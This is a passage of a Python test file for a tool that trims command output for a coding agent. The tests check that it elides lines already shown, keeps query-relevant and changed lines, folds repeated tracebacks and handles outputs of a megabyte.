                if line.startswith(("E   ", "Traceback (most recent call last)")):
                    assert line in first.text
    assert changed >= 10


def test_real_ls_and_read_from_the_traces():
    runs = load_runs(limit=2)
    ls_output = content_text(runs[0].messages[3])
    result = run(ls_output, runs[0].tool_command(3), min_tokens=300)
    assert result.kind == "search" and result.tokens_after < 0.6 * result.tokens_before
    assert "CHANGELOG.rst  44829" in result.text and "src/" in result.text
    read = content_text(runs[1].messages[43])  # sed -n '408,550p' src/marshmallow/fields.py
    result = run(read, runs[1].tool_command(43), "Look at Nested._nested_normalized_option",
                 min_tokens=300)
    assert result.kind == "read"
    assert "    def _nested_normalized_option(self, option_name):" in result.text
    for e in result.elisions:
        assert re.fullmatch(r"sed -n \d+,\d+p src/marshmallow/fields.py", e.recover or "")


def test_query_items_are_never_dropped():
    module = python_module()
    module[200] = "    total += legacy_adjustment(value)  # the culprit"
    result = run(wrap("\n".join(module)), "cat src/report.py",
                 TASK + "\nWhy does legacy_adjustment return None?")
    assert "    total += legacy_adjustment(value)  # the culprit" in result.text


def test_lines_already_shown_go_and_changed_lines_stay():
    report = [f"case {i}: input={i * 3} expected={i * 6} got={i * 6} ok" for i in range(40)]
    seen = SeenLines(["\n".join(report)])  # the agent ran the script before
    rerun = list(report)
    rerun[25] = "case 25: input=75 expected=150 got=151 MISMATCH"
    result = run(wrap("\n".join(rerun)), "python check.py", seen=seen)
    assert "lines shown before omitted" in result.text
    assert "case 25: input=75 expected=150 got=151 MISMATCH" in result.text
    assert "case 3: input=9 expected=18 got=18 ok" not in result.text
    # Without the index nothing is known to be shown already.
    assert "already shown" not in run(wrap("\n".join(rerun)), "python check.py").text


def test_lines_shown_with_numbers_are_known_without_them_but_not_the_reverse():
    code = [f"    total_{k} = compute_part(values[{k}], weight={k}.5)  # step {k}"
            for k in range(30)]
    numbered = "\n".join(f"{k + 101:6d}\t{line}" for k, line in enumerate(code))
    # `cat -n` showed them with their numbers: a plain `sed -n` of them holds nothing new.
    result = run(wrap("\n".join(code)), "sed -n '101,130p' src/calc.py",
                 seen=SeenLines([numbered]))
    # The lines are in the prompt: the marker names no command (it would be read again
    # at every later call), but the elision still records how to print them.
    assert "[... 30 lines shown before omitted]" in result.text
    assert [e.recover for e in result.elisions] == ["sed -n 101,130p src/calc.py"]
    # Shown plain, the numbers are news (the agent reads the next range from them).
    result = run(wrap(numbered), "cat -n src/calc.py | sed -n '101,130p'",
                 seen=SeenLines(["\n".join(code)]))
    assert "shown before" not in result.text
    # grep -n's `path:12:` prefix counts too.
    grep = "\n".join(f"src/calc.py:{k + 101}:{line}" for k, line in enumerate(code))
    result = run(wrap("\n".join(code)), "sed -n '101,130p' src/calc.py",
                 seen=SeenLines([grep]))
    assert "[... 30 lines shown before omitted" in result.text


def test_a_traceback_shown_before_folds_into_one_marker_across_its_carets():
    # Python 3.11 prints carets under each frame's code line; they go silently, and must
    # not split the frames the conversation already holds into one marker per frame.
    frames = []
    for k in range(8):
        frames += [f'  File "/repo/src/pkg/module_{k}.py", line {10 * k + 7}, in step_{k}',
                   f"    value = step_{k + 1}(payload, options_{k})",
                   "            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^"]
    trace = ["Traceback (most recent call last):", *frames,
             "TypeError: 'NoneType' object is not subscriptable"]
    seen = SeenLines(["\n".join(trace)])
    rerun = [*trace, "case 2 failed again after the change to step_3"]
    result = run(wrap("\n".join(rerun)), "python check.py", seen=seen)
    assert result.text.count("[... ") == 1, result.text
    assert "[... 24 lines shown before omitted]" in result.text
    assert "TypeError: 'NoneType' object is not subscriptable" in result.text
    assert "case 2 failed again after the change to step_3" in result.text
    assert "caret lines omitted" not in result.text  # the marker's range holds them


def test_one_megabyte_outputs_complete():
    log = "\n".join(f"2025-01-01T00:00:{i % 60:02d} worker {i % 13} processed batch {i}"
                    for i in range(20000))
    assert len(log) > 1_000_000
    result = run(wrap(log), "./worker --verbose", min_tokens=300)
    assert result.tokens_after < result.tokens_before
    one_line = "x" * 1_100_000
    assert run(wrap(one_line), "cat blob.min.js").tokens_after < 1000
    code = "\n".join(python_module(2000))
    assert len(code) > 1_000_000
    assert run(wrap(code), "cat big.py").tokens_after < count_text(code, MODEL)
